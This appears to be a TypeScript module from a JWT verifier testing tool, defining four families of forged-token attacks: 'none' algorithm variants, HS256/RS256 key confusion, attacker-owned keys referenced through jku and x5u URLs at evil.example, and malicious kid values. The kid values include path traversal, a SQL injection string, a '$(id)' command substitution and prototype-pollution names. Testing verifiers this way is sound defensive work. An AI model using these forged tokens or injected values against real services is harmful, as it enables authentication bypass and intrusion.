import { createPublicKey, generateKeyPairSync, randomBytes } from 'node:crypto'
import type { Attack } from './attack.js'
import { forge, hmac, signatureOf, tokenOf, unsigned } from './forge-token.js'
import { claimsOf, takesNames, tokenAttack } from './token-attack.js'

const none = tokenAttack(
  'none-algorithm',
  'a token that says of itself that it needs no signature is believed',
  takesNames,
  (attacker) => ({
    ...Object.fromEntries(
      ['none', 'None', 'NONE', 'nOnE', '', ' none'].map((alg) => [
        `alg ${JSON.stringify(alg)}`,
        forge({ alg, typ: 'JWT' }, claimsOf(attacker), unsigned),
      ]),
    ),
    'no alg': forge({ typ: 'JWT' }, claimsOf(attacker), unsigned),
    'alg null': forge({ alg: null }, claimsOf(attacker), unsigned),
    'alg in a list': forge({ alg: ['none', 'HS256'] }, claimsOf(attacker), unsigned),
    'HS256 without its signature': forge({ alg: 'HS256' }, claimsOf(attacker), unsigned),
    'alg twice': forge('{"alg":"HS256","alg":"none"}', claimsOf(attacker), unsigned),
  }),
)

const confusion = tokenAttack(
  'hs-rs-confusion',
  'a public key, which everybody may know, is taken for an HMAC secret',
  (attacker) =>
    takesNames(attacker) ??
    ((attacker.target.options.publicKeys ?? []).length === 0 ? 'no public key is known' : undefined),
  (attacker) => {
    const claims = claimsOf(attacker)
    const kids = [undefined, attacker.target.options.signing?.kid, 'rs']
    const forms = (attacker.target.options.publicKeys ?? []).flatMap((pem) => {
      const key = createPublicKey(pem)
      return [
        ['its PEM', pem],
        ['its PEM without the last line end', pem.trimEnd()],
        ['its PEM with CRLF', pem.replaceAll('\n', '\r\n')],
        ['its DER', key.export({ format: 'der', type: 'spki' })],
        ['its JSON Web Key', JSON.stringify(key.export({ format: 'jwk' }))],
      ] as const
    })
    const tokens = forms.flatMap(([form, secret]) =>
      kids.map((kid) => {
        const header = { alg: 'HS256', ...(kid === undefined ? undefined : { kid }) }
        return [`${form} as the secret, kid ${kid ?? 'none'}`, forge(header, claims, hmac(secret))] as const
      }),
    )
    return Object.fromEntries(tokens)
  },
)

const swapped = tokenAttack(
  'swapped-key',
  'a token signed with a key of the attacker’s own is believed, because it names a known one or brings its own',
  (attacker) => takesNames(attacker),
  (attacker) => {
    const kid = attacker.target.options.signing?.kid
    const claims = claimsOf(attacker)
    const named = kid === undefined ? {} : { kid }
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
    const pem = privateKey.export({ format: 'pem', type: 'pkcs8' }).toString()
    const rs = signatureOf({ algorithm: 'RS256', key: pem })
    // A copy: Node 20 may halt when the very key that was generated is written as JSON Web Key.
    const jwk = createPublicKey(pem).export({ format: 'jwk' })
    return {
      'another secret': forge({ alg: 'HS256', ...named }, claims, hmac(randomBytes(32))),
      'another RSA key': forge({ alg: 'RS256', ...named }, claims, rs),
      'another RSA key named rs': forge({ alg: 'RS256', kid: 'rs' }, claims, rs),
      'its own key in jwk': forge({ alg: 'RS256', jwk }, claims, rs),
      'its own key at jku': forge({ alg: 'RS256', jku: 'https://evil.example/keys' }, claims, rs),
      'its own key at x5u': forge({ alg: 'RS256', x5u: 'https://evil.example/key.pem', x5c: [] }, claims, rs),
      'critical headers': forge({ alg: 'HS256', crit: ['b64'], b64: false, ...named }, claims, hmac(randomBytes(32))),
    }
  },
)

const KIDS = [
  '../../../../dev/null',
  '/dev/null',
  'file:///dev/null',
  '\\\\evil.example\\share',
  'https://evil.example/key',
  "x' UNION SELECT '' --",
  '$(id)',
  '__proto__',
  'constructor',
  'toString',
  '\u0000',
  'k'.repeat(5000),
]
const NOT_TEXTS: readonly unknown[] = [['hs'], { hs: true }, 1, true]

/** The empty secret is what a reader of `/dev/null` would end up with; the right key must not be tried for a wrong name either. */
const kidTricks = tokenAttack(
  'kid-tricks',
  'the name of a key is used as a path, a query or a property',
  takesNames,
  (attacker) => {
    const { signing } = attacker.target.options
    const named = KIDS.flatMap((kid) => {
      const own = forge({ alg: 'HS256', kid }, claimsOf(attacker), hmac(''))
      const right = signing?.kid === undefined ? undefined : tokenOf(signing, 'ann', {}, { kid })
      const what = kid.length > 40 ? `kid of ${kid.length} characters` : `kid ${JSON.stringify(kid)}`
      return [
        [`${what}, empty secret`, own] as const,
        ...(right === undefined ? [] : [[`${what}, right key`, right] as const]),
      ]
    })
    const strange = NOT_TEXTS.map((kid) => {
      const what = `kid ${JSON.stringify(kid)}, empty secret`
      return [what, forge({ alg: 'HS256', kid }, claimsOf(attacker), hmac(''))] as const
    })
    return Object.fromEntries([...named, ...strange])
  },
)

/** Who is it: signatures that are none, or somebody else's. */
export const SIGNATURE_ATTACKS: readonly Attack[] = [none, confusion, swapped, kidTricks]
